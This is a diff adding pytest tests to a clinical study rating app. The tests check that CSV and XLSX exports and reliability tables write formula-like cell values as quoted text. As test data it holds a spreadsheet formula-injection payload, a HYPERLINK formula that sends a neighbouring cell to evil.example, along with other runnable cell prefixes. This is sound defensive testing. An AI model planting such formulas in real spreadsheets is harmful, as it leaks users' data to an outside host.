@@ -2,8 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import zipfile
 from datetime import date
 
+import openpyxl
 import pandas as pd
 import pyreadstat
 import pytest
@@ -11,6 +15,7 @@ import pytest
 from coding_app.errors import NotAllowed
 from coding_app.export import FORMATS, default_name, export_ratings
 from coding_app.ratings import import_ratings
+from coding_app.reliability_report import tables_csv_zip, tables_xlsx
 from coding_app.unblinding import KEY_COLUMNS
 from tests.coding_app.helpers import add_account, add_recordings, audit_rows, write_csv
 
@@ -140,3 +145,55 @@ def test_default_export_names_say_what_the_file_is_and_nothing_about_anyone(fmt,
     """ratings-blinded|unblinded-YYYYMMDD.FORMAT: today's date, nothing else."""
     name = default_name(fmt, unblinded)
     assert name == f"ratings-{'unblinded' if unblinded else 'blinded'}-{date.today():%Y%m%d}.{fmt}"
+
+
+# A consensus reason, a note or a manifest cell that Excel would run: it sends the cell next to it away.
+FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"details")'
+RUNNABLE = (FORMULA, "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR")
+
+
+def xlsx_cells(data) -> list:
+    """Every cell of every sheet of an XLSX file (path or bytes)."""
+    book = openpyxl.load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def test_text_a_spreadsheet_would_run_is_written_as_text_in_the_csv_and_xlsx_exports(study):
+    """Key values such as a clinician '=HYPERLINK(...)': no formula in the XLSX, a leading quote in both; scores stay numbers."""
+    codes = add_recordings(study.store, [
+        dict(recording_id=f"REC-{i}", participant_id=text, site=text, kind="audio", session="1", clinician=text)
+        for i, text in enumerate(RUNNABLE)
+    ])  # fmt: skip
+    pi = add_account(study.store, "pi.one", "pi")
+    add_account(study.store, "fidelity.one", "fidelity")
+    rows = [dict(recording_id=code, coder="fidelity.one", scale="vipp_adherence", score="4") for code in codes.values()]
+    import_ratings(study.store, write_csv(study.root / "ratings.csv", rows, ("recording_id", "coder", "scale", "score")), "pi.one")
+
+    export_ratings(study.store, study.root / "out.xlsx", "xlsx", pi, "pi.one", unblinded=True)
+    export_ratings(study.store, study.root / "out.csv", "csv", pi, "pi.one", unblinded=True)
+
+    cells = xlsx_cells(study.root / "out.xlsx")
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    column = {c.value: c.column_letter for c in cells if c.row == 1}
+    clinicians = [c.value for c in cells if c.column_letter == column["clinician"] and c.row > 1]
+    # (XML reads a carriage return back as a newline.)
+    assert sorted(v.replace("\n", "\r") for v in clinicians) == sorted(f"'{t}" for t in RUNNABLE)
+    assert {c.data_type for c in cells if c.column_letter == column["vipp_adherence"] and c.row > 1} == {"n"}
+    with (study.root / "out.csv").open(encoding="utf-8-sig", newline="") as file:
+        table = list(csv.DictReader(file))
+    assert sorted(row["clinician"] for row in table) == sorted(f"'{t}" for t in RUNNABLE)
+    assert {float(row["vipp_adherence"]) for row in table} == {4}
+
+
+def test_the_reliability_tables_write_a_consensus_reason_as_text_and_a_negative_kappa_as_a_number():
+    tables = {"pairs": pd.DataFrame({"scale": ["ea_sensitivity"], "kappa_linear": [-0.25]}),
+              "consensus": pd.DataFrame({"code": ["K7Q2M9XA"], "reason": [FORMULA]})}  # fmt: skip
+
+    cells = {(c.parent.title, c.coordinate): c for c in xlsx_cells(tables_xlsx(tables))}
+    with zipfile.ZipFile(io.BytesIO(tables_csv_zip(tables))) as archive:
+        consensus = list(csv.reader(io.StringIO(archive.read("consensus.csv").decode())))
+        pairs = list(csv.reader(io.StringIO(archive.read("pairs.csv").decode())))
+
+    assert [key for key, c in cells.items() if c.data_type == "f"] == []
+    assert cells["consensus", "B2"].value == f"'{FORMULA}" and consensus[1][1] == f"'{FORMULA}"
+    assert (cells["pairs", "B2"].data_type, cells["pairs", "B2"].value) == ("n", -0.25) and pairs[1][1] == "-0.25"
